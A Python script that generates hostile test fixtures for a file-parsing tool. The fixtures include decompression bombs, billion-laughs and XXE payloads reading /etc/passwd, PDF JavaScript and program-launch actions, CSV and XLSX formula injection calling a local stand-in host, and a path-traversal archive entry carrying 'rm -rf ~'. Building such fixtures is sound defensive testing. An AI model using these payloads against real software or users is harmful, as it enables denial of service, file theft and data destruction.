# ruff: noqa: E501 - a file's bytes are easier to follow on one line
"""Makes `tests/golden/hostile/`: small files that would crash, freeze, fill or leave this computer if they could.

All of it is made here, byte for byte the same each time; nothing is taken from anywhere. Run it to make them anew:

    .venv/bin/python tests/golden/make_hostile.py
"""

from __future__ import annotations

import gzip
import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

FOLDER = Path(__file__).parent / "hostile"
NOWHERE = "http://127.0.0.1:9/tracker"
Maker = Callable[[], bytes]
FILES: dict[str, Maker] = {}


def named(name: str) -> Callable[[Maker], Maker]:
    """Keep a maker under the name of its file."""

    def keep(maker: Maker) -> Maker:
        FILES[name] = maker
        return maker

    return keep


# -- PDF (ISO 32000-1) ---------------------------------------------------------------------------------------


def pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, of which the first is the catalogue."""
    target = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(target))
        content = body.encode("latin-1") if isinstance(body, str) else body
        target += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(target)
    target += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    target += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    end = f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n"
    return bytes(target + end.encode())


def stream(data: bytes, entries: str = "") -> bytes:
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


ROOT, PAGES = "<< /Type /Catalog /Pages 2 0 R {} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] {} >>"


def one_page(catalogue: str = "", page: str = "", *more: str | bytes) -> bytes:
    return pdf(ROOT.format(catalogue), PAGES, PAGE.format(page), *more)


_ACTION = "/OpenAction 4 0 R"
_PDFS = {
    "pdf-pages-in-a-circle.pdf": lambda: pdf(
        ROOT.format(""), "<< /Type /Pages /Kids [3 0 R] /Count 2 >>", "<< /Type /Pages /Kids [2 0 R] /Count 2 >>"
    ),
    "pdf-a-billion-pages.pdf": lambda: pdf(
        ROOT.format(""), "<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", PAGE.format("")
    ),
    "pdf-outline-in-a-circle.pdf": lambda: one_page(
        "/Outlines 4 0 R", "", "<< /First 5 0 R /Last 5 0 R /Count 9 >>",
        "<< /Title (Round) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R /First 5 0 R /Last 5 0 R >>",
    ),
    "pdf-form-draws-itself.pdf": lambda: one_page(
        "", "/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>", stream(b"/F Do"),
        stream(b"/F Do /F Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"),
    ),
    "pdf-glyph-draws-itself.pdf": lambda: one_page(
        "", "/Contents 4 0 R /Resources << /Font << /T 5 0 R >> >>", stream(b"BT /T 12 Tf (aa) Tj ET"),
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
        "/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> "
        "/Resources << /Font << /T 5 0 R >> >> >>",
        stream(b"9 0 d0 BT /T 12 Tf (aa) Tj ET"),
    ),
    "pdf-page-as-large-as-a-country.pdf": lambda: pdf(
        ROOT.format(""), PAGES, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e12 1e12] >>"
    ),
    "pdf-page-of-no-size.pdf": lambda: pdf(
        ROOT.format(""), PAGES, "<< /Type /Page /Parent 2 0 R /MediaBox [nan 0 -1 0] /UserUnit 1e30 >>"
    ),
    "pdf-stream-bomb.pdf": lambda: one_page(
        "", "/Contents 4 0 R", stream(zlib.compress(b"0 0 m 9 9 l S\n" * 2_000_000, 9), "/Filter /FlateDecode")
    ),
    "pdf-stream-packed-many-times.pdf": lambda: one_page(
        "", "/Contents 4 0 R", stream(_packed(b"\0" * 30_000_000, 4), "/Filter [" + "/FlateDecode " * 4 + "]")
    ),
    "pdf-deep-arrays.pdf": lambda: one_page("", "/Annots " + "[" * 30_000 + "]" * 30_000),
    "pdf-deep-dictionaries.pdf": lambda: one_page("", "/A " + "<< /A " * 20_000 + "0 " + ">> " * 20_000),
    "pdf-absurd-picture.pdf": lambda: one_page(
        "", "/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>", stream(b"300 0 0 400 0 0 cm /I Do"),
        stream(b"x", "/Subtype /Image /Width 2000000000 /Height 2000000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"),
    ),
    "pdf-font-bomb.pdf": lambda: one_page(
        "", "/Contents 4 0 R /Resources << /Font << /T 5 0 R >> >>", stream(b"BT /T 12 Tf 9 9 Td (words) Tj ET"),
        "<< /Type /Font /Subtype /TrueType /BaseFont /A /FirstChar 32 /LastChar 32 /Widths [9] /FontDescriptor 6 0 R >>",
        "<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 7 0 R >>",
        stream(b"\0\1\0\0\xff\xff" + b"glyf\0\0\0\0\0\0\0\0\xff\xff\xff\xff" * 400),
    ),
    "pdf-javascript.pdf": lambda: one_page(
        _ACTION, "", f"<< /S /JavaScript /JS (app.alert\\('x'\\); while\\(true\\){{}} this.submitForm\\('{NOWHERE}'\\)) >>"
    ),
    "pdf-launches-a-program.pdf": lambda: one_page(
        _ACTION, "", "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    ),
    "pdf-opens-an-address.pdf": lambda: one_page(
        _ACTION, "/Annots [5 0 R]", f"<< /S /URI /URI ({NOWHERE}) >>",
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI ({NOWHERE}) >> >>",
    ),
    "pdf-with-a-program-inside.pdf": lambda: one_page(
        "/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>", "",
        "<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>", stream(b"MZ" + bytes(60)),
    ),
    "pdf-asks-to-be-sent.pdf": lambda: one_page(
        "/AcroForm << /XFA 4 0 R /Fields [] >>", "", stream(f"<xdp><submit target='{NOWHERE}'/></xdp>".encode())
    ),
    "pdf-xref-points-at-itself.pdf": lambda: _xref_loop(),
    "pdf-everything-is-missing.pdf": lambda: b"%PDF-1.7\n%%EOF\n",
    "pdf-header-and-noise.pdf": lambda: b"%PDF-1.7\n" + noise(4000),
    "pdf-is-also-a-package.pdf": lambda: one_page() + package({"word/document.xml": b"<w:document/>"}),
}  # fmt: skip


def _packed(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def _xref_loop() -> bytes:
    whole = one_page()
    start = whole.rindex(b"startxref\n") + len(b"startxref\n")
    place = whole[start:].split(b"\n", 1)[0]
    return whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev " + place)


def noise(length: int) -> bytes:
    """Bytes that look random and are always the same (a linear congruential generator)."""
    state, found = 12345, bytearray()
    for _ in range(length):
        state = (1103515245 * state + 12345) & 0x7FFFFFFF
        found.append(state >> 16 & 0xFF)
    return bytes(found)


# -- pictures ------------------------------------------------------------------------------------------------


def png(width: int, height: int, data: bytes, depth: int = 1, colour: int = 0, extra: bytes = b"") -> bytes:
    """A PNG (ISO/IEC 15948) with these pixels as deflated, whatever its header promises."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra
    return start + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _text_bomb() -> bytes:
    body = b"Comment\0\0" + zlib.compress(b"a" * 40_000_000, 9)
    return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))


def gif(width: int, height: int, frames: int, frame: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF89a whose every frame is one pixel of data for a picture of `frame`."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    one = b"\x2c" + struct.pack("<HHHHB", 0, 0, *frame, 0) + b"\x02\x02\x4c\x01\0"
    return head + one * frames + b"\x3b"


def tiff(*entries: tuple[int, int, int, int], after: int = 0) -> bytes:
    """A little-endian TIFF 6.0 with one directory; `after` is where the next one is said to be."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + body + struct.pack("<I", after)


def jpeg(width: int, height: int, exif: bytes = b"") -> bytes:
    """The head of a JPEG (ITU-T T.81) and noise in place of its picture."""
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 8) + b"Exif\0\0" + exif if exif else b""
    frame = b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width) + b"\3\1\x22\0\2\x11\1\3\x11\1"
    scan = b"\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0\x3f\0"
    return b"\xff\xd8" + app1 + frame + scan + noise(600) + b"\xff\xd9"


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">{}</svg>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">{}]>'.format(
    "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
)
XXE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY k SYSTEM "http://127.0.0.1:9/x">]>'

_PICTURES = {
    "png-absurd-size.png": lambda: png(2**31 - 1, 2**31 - 1, zlib.compress(b"\0" * 100)),
    "png-bomb.png": lambda: png(30_000, 30_000, zlib.compress(bytes(3751 * 30_000), 9)),
    "png-words-bomb.png": lambda: png(8, 8, zlib.compress(bytes(16)), extra=_text_bomb()),
    "png-no-picture.png": lambda: png(64, 64, b""),
    "png-more-than-promised.png": lambda: png(1, 1, zlib.compress(bytes(20_000_000), 9)),
    "gif-absurd-canvas.gif": lambda: gif(65_535, 65_535, 3, (65_535, 65_535)),
    "gif-forty-thousand-frames.gif": lambda: gif(9, 9, 3_000) + b"",
    "gif-large-and-many.gif": lambda: gif(7_000, 7_000, 1_500, (7_000, 7_000)),
    "jpeg-absurd-size.jpg": lambda: jpeg(65_500, 65_500),
    "jpeg-noise.jpg": lambda: jpeg(400, 300),
    "jpeg-exif-in-a-circle.jpg": lambda: jpeg(40, 30, tiff((0x8769, 4, 1, 8), (0x0112, 3, 1, 99), after=8)),
    "tiff-pages-in-a-circle.tif": lambda: tiff((256, 4, 1, 9), (257, 4, 1, 9), (273, 4, 1, 8), after=8),
    "tiff-absurd-strips.tif": lambda: tiff(
        (256, 4, 1, 2**31), (257, 4, 1, 2**31), (258, 3, 2**30, 8), (273, 4, 2**30, 8), (279, 4, 2**30, 8)
    ),
    "bmp-upside-down.bmp": lambda: b"BM" + struct.pack("<IIIIiiHHIIIIII", 60, 0, 54, 40, 2**30, -(2**30), 1, 32, 0, 0, 0, 0, 0, 0),
    "webp-cut-short.webp": lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8L\xff\xff\xff\x7f\x2f" + noise(200),
    "heic-nothing-inside.heic": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\xff\xff\xff\xffmeta" + noise(300),
    "avif-noise.avif": lambda: b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + noise(600),
    "svg-script.svg": lambda: SVG.format("<script>while(true){}</script><rect onload='alert(1)' width='9' height='9'/>").encode(),
    "svg-from-elsewhere.svg": lambda: SVG.format(f'<image xlink:href="{NOWHERE}.png" width="9" height="9"/><image xlink:href="file:///etc/passwd"/><use xlink:href="{NOWHERE}.svg#a"/>').encode(),
    "svg-laughs.svg": lambda: (f'<?xml version="1.0"?>{LAUGHS}' + SVG.format("<text>&j;</text>")).encode(),
    "svg-entities.svg": lambda: (f'<?xml version="1.0"?>{XXE}' + SVG.format("<text>&j;&k;</text>")).encode(),
    "svg-uses-itself.svg": lambda: SVG.format('<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/><use xlink:href="#a"/></g>').encode(),
    "svg-deep.svg": lambda: SVG.format("<g>" * 30_000 + "</g>" * 30_000).encode(),
    "svg-doubling.svg": lambda: SVG.format('<g id="g0"><rect width="9" height="9"/></g>' + "".join(f'<g id="g{n + 1}"><use xlink:href="#g{n}"/><use xlink:href="#g{n}"/></g>' for n in range(40))).encode(),
    "svg-absurd-size.svg": lambda: SVG.replace('"90"', '"1e12"').replace('"60"', '"1e12"').format("").encode(),
    "gif-is-also-a-page.gif": lambda: gif(9, 9, 1) + f"<html><script src='{NOWHERE}'></script>".encode(),
    "jpeg-is-also-a-package.jpg": lambda: jpeg(40, 30) + package({"a.txt": b"x"}),
}  # fmt: skip


# -- packages ------------------------------------------------------------------------------------------------

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'


def package(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def docx(body: str, doctype: str = "", **more: bytes) -> bytes:
    """A Word document around `body`; `more` are further parts, `__` in a name standing for a slash."""
    rels = f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    )
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": rels.encode(),
        "word/document.xml": document.encode(),
    }
    return package(
        parts | {name.replace("__", "/").replace("_rels_", ".rels"): data for name, data in more.items()}
    )


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def sheet(rows: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return package({
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode(),
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'.encode(),
    })  # fmt: skip


def _overlapping() -> bytes:
    """Two directory entries for the same bytes, after David Fifield's overlapping zip bomb (2019)."""
    whole = docx(paragraph("a" * 100))
    place = whole.rindex(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    entry = whole[place:end]
    directory = whole[whole.index(b"PK\x01\x02") : end] + entry * 200
    count = 3 + 200
    tail = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), whole.index(b"PK\x01\x02"), 0
    )
    return whole[: whole.index(b"PK\x01\x02")] + directory + tail


_TABLE = "<w:tbl><w:tr><w:tc>"
_PACKAGES = {
    "docx-laughs.docx": lambda: docx(paragraph("&j;"), LAUGHS),
    "docx-entities.docx": lambda: docx(paragraph("&j;&k;"), XXE),
    "docx-bomb.docx": lambda: docx(paragraph(" " * 60_000_000)),
    "docx-overlapping.docx": _overlapping,
    "docx-written-elsewhere.docx": lambda: docx(paragraph("words"), **{"..__..__evil.sh": b"rm -rf ~"}),
    "docx-deep-tables.docx": lambda: docx(_TABLE * 70 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 70),
    "docx-deep-xml.docx": lambda: docx("<w:sdt>" * 60_000 + "</w:sdt>" * 60_000),
    "docx-wide-table.docx": lambda: docx("<w:tbl><w:tr>" + f"<w:tc>{paragraph('x')}</w:tc>" * 6_000 + "</w:tr></w:tbl>"),
    "docx-absurd-spans.docx": lambda: docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>' + paragraph("wide") + "</w:tc></w:tr></w:tbl>"),
    "docx-picture-from-elsewhere.docx": lambda: docx(
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{OFFICE}" r:link="r9"/></w:drawing></w:r></w:p>',
        word___rels__document_xml_rels_=b"",
    ),
    "docx-no-document.docx": lambda: docx("</w:body>"),
    "docx-half.docx": lambda: docx(paragraph("words " * 3_000))[:900],
    "xlsx-last-cell.xlsx": lambda: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'),
    "xlsx-many-cells.xlsx": lambda: sheet("".join(f'<row r="{n}">' + f'<c r="A{n}"><v>1</v></c>' * 3 + "</row>" for n in range(1, 15_000))),
    "xlsx-formula-reaches-out.xlsx": lambda: sheet(f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{NOWHERE}")</f><v>x</v></c></row>'),
    "xlsx-bomb.xlsx": lambda: sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "0" * 50_000_000 + "</t></is></c></row>"),
    "pptx-no-slides.pptx": lambda: package({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<p:presentation/>"}),
    "odt-laughs.odt": lambda: package({
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": (f'<?xml version="1.0"?>{LAUGHS}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&j;</office:document-content>').encode(),
    }),
    "ods-repeats.ods": lambda: package({
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="A"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000" office:value="1"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
    }),
    "zip-in-zip-in-zip.zip": lambda: _nested(40),
}  # fmt: skip


def _nested(depth: int) -> bytes:
    content = b"0" * 1_000_000
    for _ in range(depth):
        content = package({"inner.zip": content})
    return content


# -- words ---------------------------------------------------------------------------------------------------

_WORDS = {
    "html-from-elsewhere.html": lambda: f"<html><head><link rel=stylesheet href='{NOWHERE}.css'><base href='{NOWHERE}'></head><body background='{NOWHERE}.png'><img src='{NOWHERE}.png'><img src='file:///etc/passwd'><iframe src='{NOWHERE}'></iframe><p style='background:url({NOWHERE})'>words</p></body></html>".encode(),
    "html-script.html": lambda: b"<html><body onload='while(true){}'><script>while(true){}</script><a href='javascript:alert(1)'>words</a></body></html>",
    "html-deep.html": lambda: b"<html><body>" + b"<div><b>" * 20_000 + b"deep" + b"</body></html>",
    "html-wide-table.html": lambda: b"<html><body><table><tr>" + b"<td colspan=100000>x</td>" * 3_000 + b"</tr></table></body></html>",
    "html-absurd-picture.html": lambda: b"<html><body><img width=2000000000 height=2000000000 src='data:image/png;base64,AAAA'><hr width=99999999></body></html>",
    "html-one-long-word.html": lambda: b"<html><body><p>" + b"a" * 300_000 + b"</p></body></html>",
    "md-brackets.md": lambda: b"# Heading\n\n" + b"[" * 20_000 + b"\n\n" + b"> " * 5_000 + b"x\n\n" + b"*a_ " * 8_000,
    "md-tables.md": lambda: b"# T\n\n|" + b"a|" * 3_000 + b"\n|" + b"-|" * 3_000 + b"\n|" + b"b|" * 3_000 + b"\n",
    "csv-wide.csv": lambda: (b"a," * 20_000 + b"\n") * 3,
    "csv-quotes.csv": lambda: b'a,b\n"' + b'""' * 100_000 + b"\nc,d\n",
    "csv-formulas.csv": lambda: f'a,b\n=HYPERLINK("{NOWHERE}"),=cmd|calc!A0\n+1,@x\n'.encode(),
    "txt-one-line.txt": lambda: b"word " * 60_000,
    "txt-turns-around.txt": lambda: ("plan\u202efdp.exe " + "\u0301" * 4_000 + "\u200f" * 2_000 + "\ufdfd" * 500).encode(),
    "txt-emoji-chain.txt": lambda: ("👩" + "\u200d👩" * 5_000).encode(),
    "vtt-backwards.vtt": lambda: b"WEBVTT\n\n99:99:99.999 --> 00:00.000\n<c.x>words\n\n" + b"00:01.000 --> 00:00.000\nx\n\n" * 2_000,
    "rtf-deep.rtf": lambda: b"{\\rtf1 " + b"{" * 50_000 + b"deep" + b"}" * 50_000 + b"}",
    "rtf-absurd-binary.rtf": lambda: b"{\\rtf1 {\\pict\\pngblip\\bin2147483647 x}{\\object\\objdata 0105}words}",
    "xml-laughs.xml": lambda: f'<?xml version="1.0"?>{LAUGHS}<x>&j;</x>'.encode(),
    "gzip-bomb.txt": lambda: gzip.compress(bytes(40_000_000), 9, mtime=0),
    "empty.pdf": lambda: b"",
    "one-byte.mp4": lambda: b"\0",
    "a-program.pdf": lambda: b"MZ" + noise(500),
    "a-program.mp4": lambda: b"\x7fELF" + noise(500),
    "a-picture.docx": lambda: png(8, 8, zlib.compress(bytes(16))),
    "words.png": lambda: b"These are words and no picture.\n",
}  # fmt: skip


# -- recordings ----------------------------------------------------------------------------------------------


def box(kind: bytes, *parts: bytes, size: int | None = None) -> bytes:
    """A box of ISO/IEC 14496-12; `size` is what it claims."""
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body) if size is None else size) + kind + body


FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")


def track(*table: bytes) -> bytes:
    """A movie with one video track of 64 by 48 and these tables."""
    mvhd = box(b"mvhd", bytes(4), bytes(8), struct.pack(">II", 1000, 2**31), bytes(80))
    tkhd = box(b"tkhd", struct.pack(">I", 7), bytes(8), struct.pack(">I", 1), bytes(68))
    mdhd = box(b"mdhd", bytes(12), struct.pack(">IIHH", 1000, 2**31, 0x55C4, 0))
    hdlr = box(b"hdlr", bytes(8), b"vide", bytes(13))
    entry = box(b"avc1", bytes(6), b"\0\1", bytes(16), struct.pack(">HH", 64, 48), bytes(50))
    stsd = box(b"stsd", bytes(4), struct.pack(">I", 1), entry)
    media = box(b"mdia", mdhd, hdlr, box(b"minf", box(b"vmhd", bytes(12)), box(b"stbl", stsd, *table)))
    return box(b"moov", mvhd, box(b"trak", tkhd, media))


def counted(kind: bytes, count: int, *entries: bytes) -> bytes:
    return box(kind, bytes(4), struct.pack(">I", count), *entries)


def _wav() -> bytes:
    target = io.BytesIO()
    with wave.open(target, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(noise(4000))
    whole = bytearray(target.getvalue())
    whole[22:28] = struct.pack("<HI", 65_535, 4_294_967_295)
    return bytes(whole)


_RECORDINGS = {
    "mp4-absurd-box.mp4": lambda: FTYP + struct.pack(">I", 1) + b"moov" + struct.pack(">Q", 2**63 - 1) + bytes(64),
    "mp4-box-of-no-size.mp4": lambda: FTYP + box(b"moov", size=0) + box(b"trak", size=0) + bytes(64),
    "mp4-box-smaller-than-its-head.mp4": lambda: FTYP + box(b"moov", size=3) * 50,
    "mp4-deep-boxes.mp4": lambda: FTYP + struct.pack(">I", 2**30) .join([b""] + [b"moov"] * 5_000),
    "mp4-four-billion-frames.mp4": lambda: FTYP + track(
        counted(b"stts", 1, struct.pack(">II", 2**32 - 1, 1)), counted(b"stsc", 1, struct.pack(">III", 1, 2**32 - 1, 1)),
        box(b"stsz", bytes(4), struct.pack(">II", 1, 2**32 - 1)), counted(b"stco", 2**32 - 1, struct.pack(">I", 8)),
    ),
    "mp4-frames-elsewhere.mp4": lambda: FTYP + track(
        counted(b"stts", 1, struct.pack(">II", 10, 40)), counted(b"stsc", 1, struct.pack(">III", 1, 1, 1)),
        box(b"stsz", bytes(4), struct.pack(">II", 100, 10)), counted(b"stco", 1, struct.pack(">I", 2**32 - 9)),
    ) + box(b"mdat", noise(500)),
    "mp4-names-another-file.mp4": lambda: FTYP + track(
        box(b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", bytes(4), b"file:///etc/passwd\0"))
    ),
    "mp4-noise.mp4": lambda: FTYP + noise(5000),
    "mov-no-movie.mov": lambda: box(b"wide") + box(b"mdat", noise(900)),
    "webm-unknown-lengths.webm": lambda: b"\x1a\x45\xdf\xa3\x9fB\x86\x81\1B\xf7\x81\1B\xf2\x81\4B\xf3\x81\x08B\x82\x84webmB\x87\x81\4B\x85\x81\2" + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 400,
    "mkv-absurd-element.mkv": lambda: b"\x1a\x45\xdf\xa3\x01\x7f\xff\xff\xff\xff\xff\xfeB\x82\x88matroska" + noise(600),
    "avi-absurd-index.avi": lambda: b"RIFF\x40\x02\0\0AVI LIST\xff\xff\xff\x7fhdrlavih\x38\0\0\0" + bytes(56) + b"idx1\xff\xff\xff\xff" + noise(400),
    "wav-absurd-rate.wav": _wav,
    "mp3-endless-tag.mp3": lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + noise(800),
    "ogg-pages-without-end.ogg": lambda: b"OggS\0\2" + bytes(20) + b"\xff" + b"\xff" * 255 + noise(2000),
    "mts-noise.mts": lambda: (b"\x47" + noise(187)) * 60,
    "mpg-noise.mpg": lambda: b"\0\0\1\xba" + noise(6000),
    "aac-noise.aac": lambda: (b"\xff\xf1\x50\x80\x02\x1f\xfc" + noise(13)) * 200,
    "playlist.mp4": lambda: f"#EXTM3U\n#EXTINF:9,\n{NOWHERE}.ts\nfile:///etc/passwd\n".encode(),
    "list-of-files.mkv": lambda: b"ffconcat version 1.0\nfile /etc/passwd\nfile /dev/zero\n",
    "stream-elsewhere.mp4": lambda: b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
}  # fmt: skip

for _made in (_PDFS, _PICTURES, _PACKAGES, _WORDS, _RECORDINGS):
    FILES.update(_made)


def main() -> None:
    """Write every file, and remove what is no longer made."""
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.iterdir():
        if old.name not in FILES:
            old.unlink()
    for name, maker in FILES.items():
        (FOLDER / name).write_bytes(maker())


if __name__ == "__main__":
    main()
